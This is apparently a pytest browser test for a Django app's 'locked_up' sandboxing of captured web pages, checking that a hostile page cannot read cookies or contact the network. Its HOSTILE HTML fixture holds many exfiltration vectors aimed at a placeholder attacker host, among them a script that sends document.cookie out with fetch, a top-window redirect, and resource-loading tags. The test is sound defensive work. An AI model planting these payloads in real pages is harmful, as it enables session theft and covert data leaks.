from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.http import HttpResponse
from playwright.sync_api import Browser

from dragoman.desk.views.clippings import locked_up
from tests.browsers import chromium

LONG_ENOUGH = 1_500
"""Milliseconds in which a page would have asked for what it asks for."""

HOSTILE = """<!doctype html><title>captured</title>
<base href="{evil}/">
<meta http-equiv="refresh" content="0; url={evil}/refresh">
<link rel="stylesheet" href="{evil}/style.css"><link rel="icon" href="{evil}/icon.png">
<link rel="preload" as="image" href="{evil}/preload"><link rel="prefetch" href="{evil}/prefetch">
<link rel="prerender" href="{evil}/prerender"><link rel="modulepreload" href="{evil}/module.js">
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="{evil}">

<link rel="manifest" href="{evil}/manifest">
<style>@import "{evil}/import.css"; @font-face {{ font-family: F; src: url({evil}/font) }}
body {{ font-family: F; background: url({evil}/background) }}</style>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{evil}/rules"]}}]}}</script>
<script>document.title = document.cookie || 'ran'; fetch('{evil}/fetch?' + document.cookie);
top.location = '{evil}/top'</script>
<script src="{evil}/script.js"></script>
<body onload="new Image().src = '{evil}/onload'">
<img src="{evil}/image" onerror="document.title = 'ran'"><img srcset="{evil}/set 2x" src="/desk/">
<svg><image href="{evil}/svg"/><use href="{evil}/use#a"/></svg>
<video poster="{evil}/poster" src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio>
<iframe src="{evil}/frame"></iframe><iframe src="/desk/"></iframe>
<iframe srcdoc="<script>top.x=1</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><input type="image" src="{evil}/input">
<a id="bait" href="javascript:document.title='ran'">bait</a>
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def evil() -> Iterator[tuple[str, list[bytes]]]:
    """A server that would like to be asked, and what it was sent; even a connection counts."""
    heard: list[bytes] = []

    def listen(door: socket.socket) -> None:
        while True:
            try:
                guest, _address = door.accept()
            except OSError:
                return
            with guest:
                guest.settimeout(0.5)
                heard.append(asked(guest))

    with closing(socket.create_server(("127.0.0.1", 0))) as door:
        threading.Thread(target=listen, args=(door,), daemon=True).start()
        yield f"http://127.0.0.1:{door.getsockname()[1]}", heard
        door.shutdown(socket.SHUT_RDWR)


def asked(guest: socket.socket) -> bytes:
    """Return the first line of what a guest asks for, who may only have come in."""
    try:
        return guest.recv(1000).partition(b"\r")[0]
    except TimeoutError:
        return b"nothing yet"


class Desk(BaseHTTPRequestHandler):
    """Answers what the desk answered, and a screen around it."""

    def __init__(self, answer: HttpResponse, *more: object) -> None:
        self._answer = answer
        super().__init__(*more)  # type: ignore[arg-type]

    def do_GET(self) -> None:
        self.send_response(200)
        if self.path == "/original":
            for name, value in self._answer.items():
                self.send_header(name, value)
            body = self._answer.content
        else:
            self.send_header("Content-Type", "text/html")
            self.send_header("Set-Cookie", "session=secret")
            body = b"<title>desk</title><iframe src='/original'></iframe>"
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *parts: object) -> None:
        pass


@contextmanager
def serving(answer: HttpResponse) -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Desk, answer)) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.fixture
def hostile(evil: tuple[str, list[bytes]]) -> Iterator[str]:
    """The address at which a browser finds a hostile page as the desk serves it."""
    page = HOSTILE.format(evil=evil[0]).encode()
    with serving(locked_up(page, content_type="text/html")) as address:
        yield address


@pytest.mark.parametrize("path", ["/original", "/screen"])
def test_a_hostile_capture_reaches_neither_cookies_nor_the_network(
    browser: Browser, hostile: str, evil: tuple[str, list[bytes]], path: str
) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{hostile}/sign-in")
        evil[1].clear()

        page.goto(hostile + path)
        page.wait_for_timeout(LONG_ENOUGH)

        assert page.title() == ("captured" if path == "/original" else "desk")
    assert evil[1] == []
